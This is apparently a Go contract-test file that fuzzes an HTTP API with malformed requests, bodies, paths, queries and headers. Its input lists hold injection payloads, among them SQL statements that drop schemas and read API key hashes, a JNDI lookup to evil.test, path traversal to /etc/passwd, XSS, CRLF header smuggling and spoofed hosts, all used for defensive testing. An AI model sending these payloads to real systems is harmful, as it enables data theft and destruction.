package contract_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/http/httpguts"
)

// raw is a request as it goes over the wire.
type raw struct {
	method, target, host string
	header               []string
	body                 string
}

func (r raw) String() string {
	lines := append([]string{r.method + " " + r.target + " HTTP/1.1", "Host: " + r.host}, r.header...)
	if r.body != "" {
		lines = append(lines, fmt.Sprintf("Content-Length: %d", len(r.body)))
	}
	return strings.Join(lines, "\r\n") + "\r\n\r\n" + r.body
}

// isHTTP reports whether net/http takes it for a request: on others it may hang up before they are read.
func (r raw) isHTTP() bool {
	request, err := http.ReadRequest(bufio.NewReader(strings.NewReader(r.String())))
	if err != nil || !httpguts.ValidHostHeader(request.Host) {
		return false
	}
	for name, values := range request.Header {
		if !httpguts.ValidHeaderFieldName(name) {
			return false
		}
		for _, value := range values {
			if !httpguts.ValidHeaderFieldValue(value) {
				return false
			}
		}
	}
	return true
}

// texts are what somebody might try in the place of a text.
var texts = []string{
	"", " ", "\t", "a\nb", "\r\nX-Forged: 1", "\x00", "a\x00b", "\x1b[2J", "\u007f", "\u200b", "\u202eabc", "\ufeff", "\ufffd", "e\u0301", "ß", "İ", "ﬁ", "９", "👩‍👩‍👧",
	"\xff\xfe", "\xed\xa0\x80", "\xc0\xaf", strings.Repeat("a", 300), strings.Repeat("x", 70_000), strings.Repeat("é", 2000), strings.Repeat("../", 50),
	"'", `"`, `\`, "%", "_", "%s%n%x", "' OR '1'='1", "'; DROP SCHEMA public CASCADE; --", `x"; SET ROLE postgres; --`, "$1", "$$", "/*", "1; SELECT pg_sleep(9)", "' UNION SELECT secret_hash FROM api_keys --",
	"public", "pg_catalog", "school_oak", "school_oak\"", "information_schema.tables", "jobs", "primary", "localhost", "oak.test", "127.0.0.1", "xn--a", "xn--bcher-kva.test", "a..b", "*.test",
	"=HYPERLINK(\"http://evil.test\")", "+1", "-1", "@SUM(A1)", "<script>alert(1)</script>", "${jndi:ldap://evil.test}", "{{7*7}}", "file:///etc/passwd", "../../etc/passwd", "http://evil.test",
	"null", "true", "0", "-0", "1e309", "NaN", "0x10", "99999999999999999999", "00000000-0000-0000-0000-000000000000", "urn:uuid:00000000-0000-0000-0000-000000000000",
	"2026-02-30", "0000-00-00", "9999-12-31", "-4713-01-01", "2026-09-01T25:00:00Z", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "2026-09-01T00:00:00+99:99", "infinity",
	"admin", "owner", "root", "eyJhbGciOiJub25lIn0.e30.", "e30", "bnVsbA", "a@b", "a@b.c\r\nBcc: x@y.z", "+999999999999999", "postgres://u:secret@h/d", "respond-async", "*", `"*"`, `W/"x"`,
}

// tokens are what somebody might try in the place of any value of JSON, as it is written.
var tokens = []string{
	"null", "true", "false", "0", "-0", "-1", "1.5", "1e400", "-1e400", "1e-400", "123456789012345678901234567890", "9223372036854775807", "9223372036854775808", "2147483648", "1E2", "0.1e1",
	"01", "+1", "NaN", "Infinity", "'a'", "undefined", "", ",", "{", "]", `"`, `"\ud800"`, `"\udc00\ud800"`, `"\u0000"`, `"\x"`, "\"\x01\"", "\"\xff\"", "\xef\xbb\xbf1", "//", "{}", "[]", "[null]", "[[]]", "[{}]",
	`{"a":1,"a":2}`, `{"":""}`, `{"__proto__":{"admin":true}}`, `{"id":"00000000-0000-0000-0000-000000000000","state":"ready"}`, strings.Repeat("[", 40) + strings.Repeat("]", 40),
	strings.Repeat("[", 20_000), strings.Repeat(`{"a":`, 5000) + "1" + strings.Repeat("}", 5000), "[" + strings.Repeat("0,", 5000) + "0]", strings.Repeat("9", 5000), `"` + strings.Repeat(`\u00e9`, 5000) + `"`,
}

// heads are what somebody might put into a head.
var heads = []string{
	"Accept: text/html", "Accept: a;b,c", "Accept: */*;q=0", "Accept: application/json;q=0.1, */*", "Accept:", "Accept: " + strings.Repeat("a/b,", 2000), "Content-Type: text/plain", "Content-Type: application/json; charset=utf-16",
	"Content-Type: application/merge-patch+json", "Content-Type: multipart/form-data", "Content-Type: ;", "Content-Encoding: gzip", "Content-Encoding: identity", "If-Match: *", "If-Match: \"", `If-Match: "x", W/"y"`, "If-None-Match: *",
	"If-Modified-Since: yesterday", "Range: bytes=0-1", "Prefer: respond-async", "Prefer: wait=1000, respond-async", "Prefer: \xff", "Last-Event-ID: 1", "Last-Event-ID: \xff", "Idempotency-Key: one", "Idempotency-Key: \"one\"", "Idempotency-Key: a\tb",
	"Idempotency-Key:", "Authorization: Bearer", "Authorization: Bearer hr_x", "Authorization: Bearer a.b.c", "Authorization: Basic YTpi", "X-Request-Id: a b", "X-Request-Id: x\ty", "X-Forwarded-Host: localhost", "X-Forwarded-For: 127.0.0.1",
	"X-Forwarded-Proto: https", "X-HTTP-Method-Override: DELETE", "Origin: http://evil.test", "Origin: null", "Access-Control-Request-Method: PUT", "Cookie: a=b", "Connection: close", "Connection: Upgrade", "Upgrade: h2c", "Expect: nothing", "TE: trailers",
	"X: " + strings.Repeat("y", 8000), "X\x00: y", "X y: z", ": y", "Transfer-Encoding: gzip", "User-Agent: \x1b[2J",
}

// nasty is a request of an operation of which something is not as the document has it, and whether it still
// is one of that operation.
func (a *api) nasty(t *testing.T, r *rand.Rand, c call, cursors []string) (out raw, same bool) {
	t.Helper()
	out = raw{method: c.method, target: c.request.path, host: a.host}
	for _, name := range []string{"Authorization", "If-None-Match", "Prefer", "Last-Event-ID"} {
		if c.header[name] != "" {
			out.header = append(out.header, name+": "+c.header[name])
		}
	}
	if c.body != nil {
		out.body = nastyBody(t, r, c.body)
		out.header = append(out.header, "Content-Type: application/json")
	}
	same = true
	if r.IntN(4) == 0 {
		out.target, same = nastyPath(r, c), false
	}
	if query := c.op.parametersIn("query"); len(query) > 0 || r.IntN(8) == 0 {
		out.target += "?" + nastyQuery(r, query, cursors)
	}
	switch r.IntN(16) {
	case 0:
		out.method, same = pick(r, "GET", "HEAD", "PUT", "POST", "PATCH", "DELETE", "OPTIONS", "TRACE", "BREW", "get", "CONNECT"), false
	case 1:
		out.host, same = pick(r, "localhost", "oak.test", "OAK.test.", "evil.test", "oak.test:99", "", "[::1]", "a b", "oak.test@evil.test", strings.Repeat("a.", 200)), false
	case 2, 3, 4, 5:
		for range 1 + r.IntN(3) {
			out.header = append(out.header, pick(r, heads...))
		}
	}
	return out, same
}

func pick[T any](r *rand.Rand, from ...T) T { return from[r.IntN(len(from))] }

// nastyBody is a body of which some value is another.
func nastyBody(t *testing.T, r *rand.Rand, body any) string {
	t.Helper()
	const mark = "ANY-VALUE"
	changes := r.IntN(3)
	for range changes {
		body = nastyValue(r, body, mark)
	}
	encoded, err := json.Marshal(body)
	must(t, err)
	text := string(encoded)
	for strings.Contains(text, `"`+mark+`"`) {
		text = strings.Replace(text, `"`+mark+`"`, pick(r, tokens...), 1)
	}
	switch r.IntN(40) {
	case 0:
		return text[:r.IntN(len(text)+1)]
	case 1:
		return text + pick(r, "{}", "x", "\x00", " \n ")
	case 2:
		return pick(r, tokens...)
	case 3:
		at := r.IntN(len(text) + 1)
		return text[:at] + string([]byte{byte(r.UintN(256))}) + text[at:]
	case 4: // a key twice
		return strings.Replace(text, "{", `{"name":"a","name":"b",`, 1)
	}
	return text
}

// nastyValue returns a value in which one within it, or all of it, is another.
func nastyValue(r *rand.Rand, value any, mark string) any {
	switch in := value.(type) {
	case object:
		names := make([]string, 0, len(in))
		for name := range in {
			names = append(names, name)
		}
		if slices.Sort(names); len(names) > 0 && r.IntN(8) > 0 {
			name := pick(r, names...)
			return changed(in, place{name}, pick[any](r, drop, nastyValue(r, in[name], mark), nastyValue(r, in[name], mark), nastyValue(r, in[name], mark)))
		}
		return changed(in, place{pick(r, "id", "state", "schema_version", "Name", "", "no_such", "\x00")}, pick(r, texts...))
	case []any:
		if len(in) > 0 && r.IntN(4) > 0 {
			i := r.IntN(len(in))
			return changed(in, place{i}, nastyValue(r, in[i], mark))
		}
		return slices.Repeat(in, r.IntN(200))
	}
	if r.IntN(2) == 0 {
		return mark
	}
	return pick(r, texts...)
}

// nastyPath is a path that leads elsewhere, or nowhere.
func nastyPath(r *rand.Rand, c call) string {
	path := c.request.path
	segments := strings.Split(path, "/")
	at := 1 + r.IntN(len(segments)-1)
	switch r.IntN(8) {
	case 0:
		return strings.TrimSuffix(path, "/")
	case 1:
		return strings.Replace(path, "/", pick(r, "//", "/./", "/../", "/%2e%2e/", "/%2f", "%2f", "/..;/", "\\", "/;a=b/", "/%00/", "/%ff/"), 1+r.IntN(2))
	case 2:
		segments[at] = strings.ToUpper(segments[at])
	case 3:
		return path + pick(r, "/", "x", "%20", "..", ".json", "?", "#", "%", "%zz")
	case 4:
		return pick(r, "/", "/docs", "/docs/", "/openapi.json", "/openapi.yaml", "/healthz", "/readyz", "/metrics", "/debug/pprof/", "/.env", "/webhooks/whatsapp/", "*", "x", "http://evil.test/", "http://localhost"+path)
	case 5:
		segments = slices.Delete(segments, at, at+1)
	default:
		segments[at] = url.PathEscape(pick(r, texts...))
	}
	return strings.Join(segments, "/")
}

// nastyQuery is a query of parameters that are not what they should be.
func nastyQuery(r *rand.Rand, parameters []parameter, cursors []string) string {
	var parts []string
	for range r.IntN(4) {
		name := pick(r, "cursor", "limit", "sort", "no_such", "", "\x00", "search")
		if len(parameters) > 0 && r.IntN(6) > 0 {
			name = pick(r, parameters...).name
		}
		value := url.QueryEscape(pick(r, texts...))
		if name == "cursor" && len(cursors) > 0 && r.IntN(3) > 0 {
			cursor := []byte(pick(r, cursors...))
			for range r.IntN(3) {
				cursor[r.IntN(len(cursor))] = "Ab0-_="[r.IntN(6)]
			}
			value = string(cursor)
		}
		parts = append(parts, url.QueryEscape(name)+pick(r, "=", "=", "=", "=", "", "==")+value)
	}
	return strings.Join(parts, pick(r, "&", "&", "&", "&&", ";"))
}
